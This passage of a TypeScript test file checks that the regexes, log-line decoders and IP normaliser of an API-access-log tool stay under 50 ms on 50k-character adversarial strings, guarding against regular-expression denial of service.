  ...['a:', '1.', '0:', 'ffff:', '1::', '::1:', 'arn:aws-', 'user/', 'a.', '12.', '-:', '" ', '" 2', ' [', '\\"', ':-,', '<ip>', '<request'].map((p) => p.repeat(Math.ceil(N / p.length)) + '!'),
];

/** The best of three timings: a catastrophic regex is slow every time, a GC pause only once. */
function bestMs(fn: () => void): number {
  let best = Infinity;
  for (let i = 0; i < 3; i++) {
    const t = performance.now();
    fn();
    best = Math.min(best, performance.now() - t);
  }
  return best;
}

describe('ReDoS: the hot path runs in bounded time on adversarial input', () => {
  it('lists every regex of the hot path: in the decoders and features only the JSON reader’s learnt layout; the net helpers’ are bounded', () => {
    const hot = regexesIn(['src/decode', 'src/features']);
    const transitive = regexesIn(['src/net']);
    console.log(`[robustness] regexes on the hot path (src/decode, src/features): ${hot.length ? hot.map((r) => `${r.file}:${r.line} ${r.source}`).join('; ') : 'none'}`);
    console.log(`[robustness] regexes the hot path reaches (src/net): ${transitive.map((r) => `${r.file}:${r.line} ${r.source}`).join('; ')}`);
    // A regex added to the decoders or features must be added to this list, and to the timing below. The JSON reader's
    // learnt layout (src/decode/json-fast.ts) is the only one: anchored, the literal text between values and one
    // pattern per value, each of which cannot run into the literal after it (a string stops at its quote, a number at
    // a non-digit), so it matches in one pass; the four escapers run once per layout learnt, on a line's literal text.
    // Both are timed on adversarial lines by the decoder timing below (JSON lines of the recommended layout, each
    // field 50k adversarial characters) and in test/decode/json-fast.test.ts.
    // And the shape of an API key id (src/decode/principal-key.ts), anchored and at most 32 characters long.
    expect(hot.map((r) => r.source).sort()).toEqual([
      "new RegExp(source + literal(line.slice(literalFrom)) + '$')", '/[\\\\^$.*+?()[\\]{}|/-]/g', '/\\t/g', '/\\n/g', '/\\r/g',
      '/^[a-z0-9]{10,32}$/',
    ].sort());
    expect(hot.every((r) => ['src/decode/json-fast.ts', 'src/decode/principal-key.ts'].includes(r.file))).toBe(true);
    // The third reads the createDate of a CloudFront ip-ranges file (config load, not per record): fixed length, anchored.
    expect(transitive.map((r) => r.source).sort()).toEqual(['/^(0|[1-9]\\d{0,2})$/', '/^[0-9a-fA-F]{1,4}$/', '/^\\d{4}-\\d{2}-\\d{2}-\\d{2}-\\d{2}-\\d{2}$/'].sort());
  });

  it('every regex literal in src (decoders, net, rendering, containment) is linear on 50k-char adversarial strings', () => {
    const all = regexesIn(['src']).filter((r) => r.regex !== null && !r.file.startsWith('src/simulate'));
    let worst = { ms: 0, what: '' };
    for (const r of all) {
      for (const s of ADVERSARIAL) {
        const re = new RegExp(r.regex!.source, r.regex!.flags.replace('g', ''));
        const ms = bestMs(() => {
          re.test(s);
          s.replace(new RegExp(re.source, re.flags + 'g'), '');
        });
        if (ms > worst.ms) worst = { ms, what: `${r.file}:${r.line} on ${JSON.stringify(s.slice(0, 6))}…` };
        expect(ms, `${r.file}:${r.line} ${r.source} on ${JSON.stringify(s.slice(0, 8))}…`).toBeLessThan(50);
      }
    }
    figures('regex timing', { regexes: all.length, adversarialInputs: ADVERSARIAL.length, runs: all.length * ADVERSARIAL.length, worstMs: worst.ms, worst: worst.what });
  });

  it('every decoder, and the address parser behind them (ipaddr.js), decodes an adversarial 50k-char field in < 50 ms', () => {
    let decodes = 0;
    let worst = { ms: 0, what: '' };
    const time = (what: string, fn: () => unknown): void => {
      const ms = bestMs(() => void fn());
      decodes++;
      if (ms > worst.ms) worst = { ms, what };
      expect(ms, what).toBeLessThan(50);
    };
    for (const s of ADVERSARIAL) {
      const tag = JSON.stringify(s.slice(0, 6));
      const lines: [string, string][] = [
        ...['ip', 'path', 'userAgent', 'requestTime', 'status', 'responseLength', 'userArn', 'routeKey'].map((f): [string, string] => [`json ${f}`, JSON.stringify(apigwRecord({ [f]: s }))]),
        ['json bare dashes', `{"ip":"${s}","status":-,"responseLength":-,`],
        ['clf host', `${s} - - [${T_CLF}] "GET / HTTP/1.1" 200 1 "-" "-"`],
        ['clf request', `203.0.113.9 - - [${T_CLF}] "GET /${s} HTTP/1.1" 200 1 "-" "-"`],
        ['clf agent', `203.0.113.9 - - [${T_CLF}] "GET / HTTP/1.1" 200 1 "-" "${s}"`],
        ['clf time', `203.0.113.9 - - [${s}] "GET / HTTP/1.1" 200 1`],
        ['csv', `${s},-,-,${T_CLF},GET,/,HTTP/1.1,200,1,r`],
        ['xml', `<request id="x"><ip>${s}</ip><requestTime>${T_CLF}</requestTime><status>200</status></request>`],
        ['raw', s],
      ];
      for (const [what, line] of lines) {
        for (const format of FORMATS) time(`${format} ${what} ${tag}`, () => decodeLine(line, format));
        time(`any ${what} ${tag}`, () => decodeAnyLine(line));
      }
      time(`cloudwatch ${tag}`, () => decodeCloudWatchData(cwlRecordBytes(cwlEnvelope([s, JSON.stringify(apigwRecord({ ip: s }))])), new CollectingSink()));
      time(`normaliseIp ${tag}`, () => normaliseIp(s));
      time(`normaliseIp 64 ${tag}`, () => normaliseIp(s.slice(0, 64)));
    }
    figures('decoder timing', { adversarialInputs: ADVERSARIAL.length, decodes, worstMs: worst.ms, worst: worst.what });
  });
});
